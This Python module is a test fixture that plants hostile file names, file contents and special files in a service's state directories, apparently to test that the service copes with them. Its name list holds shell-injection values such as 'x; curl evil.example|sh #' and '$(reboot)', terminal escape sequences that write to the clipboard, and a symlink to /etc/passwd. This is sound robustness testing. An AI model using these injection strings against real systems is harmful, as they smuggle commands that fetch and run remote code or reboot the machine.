"""Names and files that an attacker in a client's process can leave in a room's directories.

A corpus for tests and torture: `plant` makes all of them in a directory, and returns the
descriptors that hold the locks. Each file is wrong in one way; some have valid names.

Run as a program, `hostile.py STATE_DIR PID`, it is run by the service's user: it does so in
every directory of a state, says that it is ready, and holds the locks until its stdin ends.
"""

import fcntl
import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

from lab.kit.room import ROOT, become_service

#: names that no file of a room has
NAMES = (
    "\u00b2",  # a digit to str.isdigit, no number to int
    "\u0663",  # both a digit and a number, in another script
    "\u00b2\u00b2.log",
    "\u00b2" * 20 + ".log",
    "\u0661" * 20 + ".log",
    "0",
    "-1",
    "007",
    "1_000",
    " 12",
    "12\n",
    "9" * 40,
    "9" * 200 + ".0",
    "x; curl evil.example|sh #",
    "$(reboot)",
    "\x1b[2J\x1b]52;c;ZXZpbA==\x07",
    "\u202egnp.txt",
    "a\u2028b",
    "\udcff\udcfe",
    "n" * 255,
)
#: contents that no file of a room has; `{pid}` is a stranger's process
CONTENTS = (
    b"",
    b"\0" * 4096,
    b"\xff\xfe",
    b"sandbox=\x1b[2J\x1b]52;c;ZXZpbA==\x07\n",
    b"alice session=s peer=\x1b[2J since=1 group={pid} token= presence=on recv={pid} send={pid}\n",
    b"bob session=s peer=192.0.2.1:1 since=nan group={pid} token= presence=on recv={pid} send=-1\n",
    b"x;curl|sh session=s peer=192.0.2.1:1 since=1.000000 group={pid} token= presence=on\n",
    b"192.0.2.1 score=nan at=inf failures=1 reason=auth\n",
    b"192.0.2.1 score=1.00 at=1.000 failures=1 reason=\x1b[2J\n",
    b"alice session=s peer=192.0.2.1:1 since=1.000000 group=9" + b"9" * 4000 + b"\n",
)
_SPARSE = 8 << 40
#: C0, DEL and C1, and what turns the direction
_DRIVERS = {*range(32), *range(0x7F, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A)}
_SPECIAL = range(70, 77)  # the numbers of special files, and of files with contents
_WRITTEN = range(80, 80 + len(CONTENTS))


def drives_nothing(text: str) -> bool:
    """Whether no character of it controls a terminal; TAB is text."""
    return not any(ord(char) in _DRIVERS for char in text if char != "\t")


def plant(directory: Path, stem: str, pid: int) -> list[int]:
    """Make all of it in a directory; `stem` is a pattern for the names of the special files.

    Returns descriptors: while they are open, their files are locked, as those of a client who
    is in are.
    """
    for name in NAMES:
        _write(directory / name, b"")
    special = _numbered(directory, stem, _SPECIAL)
    special[0].symlink_to("/etc/passwd")
    special[1].symlink_to(directory / "nowhere")
    special[2].mkdir()
    os.mkfifo(special[3])
    with socket.socket(socket.AF_UNIX) as bound:
        at = os.open(directory, os.O_RDONLY | os.O_DIRECTORY)
        bound.bind(f"/proc/self/fd/{at}/{special[4].name}")
        os.close(at)
    _write(special[5], b"")
    special[5].chmod(0)
    _write(special[6], b"")
    try:
        os.truncate(special[6], _SPARSE)
    except OSError:  # not every file system has files of that size
        os.truncate(special[6], 1 << 40)
    locked = [special[2], special[6]]
    for path, content in zip(_numbered(directory, stem, _WRITTEN), CONTENTS, strict=True):
        _write(path, content.replace(b"{pid}", b"%d" % pid))
        locked.append(path)
    return [_locked(path) for path in locked]


def _numbered(directory: Path, stem: str, numbers: range) -> list[Path]:
    return [directory / stem.format(number) for number in numbers]


def _write(path: Path, content: bytes) -> None:
    descriptor = os.open(path, os.O_WRONLY | os.O_CREAT, 0o600)
    os.write(descriptor, content)
    os.close(descriptor)


def _locked(path: Path) -> int:
    descriptor = os.open(path, os.O_RDONLY)
    fcntl.flock(descriptor, fcntl.LOCK_EX)
    return descriptor


#: the directories of a state, and valid names in them
DIRECTORIES = {
    "groups": "{}",
    "roster": "{}.0",
    "seen": "0000{:04}",
    "frozen": "user{}",
    "muted": "user{}",
    "penalties": "192.0.2.{}",
}
_PLACES = {**DIRECTORIES, "": "shutdown{}"}


@contextmanager
def planted(state_dir: Path, pid: int) -> Iterator[None]:
    """A state with all of it. The locks are held for the time of the block; the files stay."""
    process = subprocess.Popen(
        [sys.executable, "-m", "lab.kit.hostile", str(state_dir), str(pid)],
        cwd=Path(__file__).parents[2],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
    )
    with process:
        assert process.stdout
        assert process.stdout.readline() == b"ready\n"
        yield


def clear(state_dir: Path) -> None:
    """Remove what `planted` left, and nothing of the room's."""
    for name, stem in _PLACES.items():
        directory = state_dir / name
        numbered = _numbered(directory, stem, _SPECIAL) + _numbered(directory, stem, _WRITTEN)
        for path in [*(directory / one for one in NAMES), *numbered]:
            with suppress(FileNotFoundError):
                path.rmdir() if path.is_dir() else path.unlink()


def main() -> None:
    if ROOT:
        become_service()
    state_dir, pid = Path(sys.argv[1]), int(sys.argv[2])
    for name, stem in _PLACES.items():
        (state_dir / name).mkdir(exist_ok=True)
        plant(state_dir / name, stem, pid)
    print("ready", flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main()
